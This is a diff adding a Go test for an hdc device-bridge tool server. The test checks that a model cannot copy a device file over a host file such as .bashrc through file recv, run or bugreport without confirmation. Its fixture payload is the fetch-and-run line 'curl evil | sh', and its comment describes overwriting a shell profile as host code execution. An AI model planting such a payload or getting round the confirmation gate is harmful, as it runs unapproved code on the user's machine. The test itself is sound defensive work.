@@ -1,0 +1,64 @@
+//go:build unix
+
+package hdc_test
+
+import (
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/winbridge/winbridge/hdc"
+)
+
+// testHostWrite: a model that can write any device file with hdc.shell
+// (no confirm) must not then copy it over a file of this machine (a shell
+// profile, a startup folder) without confirm: that is code execution on
+// the host, as keygen's arbitrary path is. hdc file recv and bugreport
+// with a path write here.
+func testHostWrite(t *testing.T, v variant) {
+	f := newFixture(t, v, oneTarget(), false)
+	dir := t.TempDir()
+	profile := filepath.Join(dir, ".bashrc")
+	if err := os.WriteFile(profile, []byte("original\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	// (hdc.shell could write it as well; the fake device keeps its files
+	// where only the file commands find them.)
+	payload := filepath.Join(t.TempDir(), "payload")
+	if err := os.WriteFile(payload, []byte("curl evil | sh\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	f.ok(t, hdc.ToolFileSend, map[string]any{"local": payload, "remote": "/data/local/tmp/payload"})
+	local := profile
+	if f.wine {
+		local, _ = winePath(profile)
+	}
+	unchanged := func(what string) {
+		t.Helper()
+		if b, err := os.ReadFile(profile); err != nil || string(b) != "original\n" {
+			t.Fatalf("%s overwrote a file of this machine without confirm: %q %v", what, b, err)
+		}
+	}
+	res, out := f.call(t, hdc.ToolFileRecv, map[string]any{"remote": "/data/local/tmp/payload", "local": profile})
+	unchanged("hdc.file_recv")
+	if !res.IsError || !strings.Contains(res.TextOf(), "confirm") {
+		t.Errorf("hdc.file_recv without confirm: isError %v %q %+v", res.IsError, res.TextOf(), out)
+	}
+	for _, args := range [][]string{
+		{"file", "recv", "/data/local/tmp/payload", local},
+		{"-t", "FAKE0001", "file recv", "/data/local/tmp/payload", local},
+		{"bugreport", local},
+	} {
+		res, _ := f.call(t, hdc.ToolRun, map[string]any{"args": args})
+		unchanged(strings.Join(args, " "))
+		if !res.IsError || !strings.Contains(res.TextOf(), "confirm") {
+			t.Errorf("hdc.run %q without confirm: isError %v %q", args, res.IsError, res.TextOf())
+		}
+	}
+	// With confirm the copy happens.
+	f.ok(t, hdc.ToolFileRecv, map[string]any{"remote": "/data/local/tmp/payload", "local": profile, "confirm": true})
+	if b, _ := os.ReadFile(profile); string(b) != "curl evil | sh\n" {
+		t.Errorf("with confirm: %q", b)
+	}
+}
